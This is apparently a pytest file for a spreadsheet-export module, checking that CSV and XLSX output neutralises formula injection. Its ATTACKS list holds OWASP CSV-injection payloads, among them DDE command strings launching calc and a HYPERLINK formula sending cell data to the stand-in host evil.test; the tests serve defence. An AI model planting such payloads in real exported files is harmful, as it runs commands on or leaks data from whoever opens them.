"""Cells that a spreadsheet could take for a formula: OWASP's list, in CSV and in XLSX."""

import csv
import io
import re
import zipfile

import pytest

from tongban.kit.spreadsheets import LONGEST, csv_lines, defused, streamed, xlsx_file

# OWASP "CSV Injection", and the payloads it names
ATTACKS = [
    "=1+1", "=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.test?x="&A1,"click")', "+1+1", "-2+3+cmd|' /C calc'!D2",
    "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "\n=1+1", "＝1+1", "＋1", "－1", "＠SUM(1)", " =1+1", "\0=1+1",
    "%0A=1", "|calc", "=1+1\";=1+1", "-5",
]  # fmt: skip
PLAIN = ["", "核对身份证号码", "3-2", "a=b", "user@example.test", "'quoted", "陆建明", "0990-8800010"]


def rows_of(data: bytes) -> list[list[str]]:
    assert data.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(io.StringIO(data[3:].decode(), newline="")))


@pytest.mark.parametrize("attack", ATTACKS)
def test_no_cell_of_a_csv_begins_a_formula(attack: str) -> None:
    assert rows_of(b"".join(csv_lines([[attack, "x"], ["x", attack]]))) == [
        ["'" + attack.replace("\0", ""), "x"],
        ["x", "'" + attack.replace("\0", "")],
    ]


@pytest.mark.parametrize("text", PLAIN)
def test_what_is_harmless_stays_as_it_is(text: str) -> None:
    assert defused(text) == text


def test_a_separator_or_a_quote_opens_no_cell_of_its_own() -> None:
    row = ['a","=1+1', "b;=1+1", "c\r\n=1+1", 7, None]
    data = b"".join(csv_lines([row]))
    assert rows_of(data) == [['a","=1+1', "b;=1+1", "c\r\n=1+1", "7", ""]]
    assert data[3:].decode() == '"a"",""=1+1","b;=1+1","c\r\n=1+1",7,""\r\n'


def test_every_text_of_an_xlsx_is_text() -> None:
    texts = [*ATTACKS, *PLAIN, "http://evil.test", "x" * (LONGEST + 1)]
    with xlsx_file([[one, 7] for one in texts]) as file, zipfile.ZipFile(file) as book:
        sheet = book.read("xl/worksheets/sheet1.xml").decode()
        names = book.namelist()
    assert "<f>" not in sheet and "<f " not in sheet and "hyperlink" not in sheet
    kinds = re.findall(r'<c r="A\d+"( s="\d+")? t="(\w+)"', sheet)
    assert [kind for _, kind in kinds] == ["inlineStr"] * len(texts)
    assert sheet.count("<v>7</v>") == len(texts)
    assert "<t>=1+1</t>" in sheet and "x" * LONGEST in sheet and "x" * (LONGEST + 1) not in sheet
    assert not [one for one in names if "external" in one.lower()]


def test_rows_are_taken_one_by_one_and_pieces_make_a_whole() -> None:
    taken: list[int] = []

    def rows():  # type: ignore[no-untyped-def]
        for number in range(3):
            taken.append(number)
            yield [number]

    pieces = csv_lines(rows())
    assert (next(pieces), taken) == (b"\xef\xbb\xbf", [])
    assert (next(pieces), taken) == (b"0\r\n", [0])
    assert zipfile.ZipFile(io.BytesIO(b"".join(streamed(rows(), "xlsx")))).testzip() is None
    with pytest.raises(KeyError):
        streamed([], "ods")
